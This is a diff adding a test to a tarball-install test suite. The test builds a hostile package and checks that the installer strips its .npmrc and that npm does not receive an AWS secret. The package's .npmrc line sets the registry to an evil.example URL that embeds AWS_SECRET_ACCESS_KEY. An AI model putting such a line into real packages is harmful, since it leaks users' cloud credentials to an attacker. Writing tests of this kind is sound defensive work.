@@ -235,6 +235,42 @@ describe('a tarball', () => {
     expect(existsSync(join(desk.folder, 'escaped'))).toBe(false);
   });
 
+  it('is unpacked without settings of npm, and npm gets no variables that it does not need', async () => {
+    const file = (path: string, text: string) => {
+      const padded = Buffer.alloc(Math.ceil(text.length / 512) * 512);
+      padded.write(text);
+      return [header(`package/${path}`, { size: text.length }), padded];
+    };
+    // Instead of npm, a program that writes down its environment.
+    const bin = newFolder();
+    const seen = join(bin, 'seen.json');
+    const program = `#!${process.execPath}\nrequire('fs').writeFileSync(${JSON.stringify(seen)}, JSON.stringify(process.env));`;
+    writeFileSync(join(bin, 'npm'), program, { mode: 0o755 });
+    const hostile = tarball(
+      ...file('connector.yaml', manifestText('sneaky')),
+      ...file('transform.mjs', classWith(ECHO)),
+      ...file('package.json', packageFile('sneaky', { dependencies: { units: '1.0.0' } })),
+      ...file('.npmrc', `registry=https://evil.example/\${AWS_SECRET_ACCESS_KEY}/`),
+      ...file('lib/.env', 'x'),
+      ...file('node_modules/units/index.js', '1'),
+    );
+    const env = {
+      PATH: `${bin}:${process.env.PATH}`,
+      AWS_SECRET_ACCESS_KEY: 'swordfish',
+      npm_config_registry: 'https://r.example',
+    };
+    const { code, err } = await desk.inProcess(['connector', 'install', hostile], { env });
+    expect({ code, err }).toEqual({ code: 0, err: '' });
+    expect(readdirSync(join(installedIn(), 'sneaky')).sort()).toEqual([
+      'connector.yaml',
+      'package.json',
+      'transform.mjs',
+    ]);
+    const variables = JSON.parse(readFileSync(seen, 'utf8'));
+    expect(variables).toMatchObject({ npm_config_registry: 'https://r.example' });
+    expect(JSON.stringify(variables)).not.toContain('swordfish');
+  });
+
   it('that is none is refused', async () => {
     const file = join(newFolder(), 'text.tgz');
     writeFileSync(file, 'text');
